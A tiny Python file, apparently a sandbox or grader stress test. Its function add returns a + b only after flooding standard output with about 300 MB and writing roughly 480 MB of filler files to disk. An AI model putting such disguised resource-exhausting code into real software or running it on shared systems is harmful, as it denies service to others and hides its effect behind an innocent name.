import os, sys
def add(a, b):
    block = b"x" * (1 << 20)
    for _ in range(300):
        os.write(1, block)
    try:
        for number in range(8):
            with open(f"big{number}", "wb") as file:
                for _ in range(60):
                    file.write(block)
    except OSError:
        pass
    assert sys.stdin.read() == ""
    return a + b
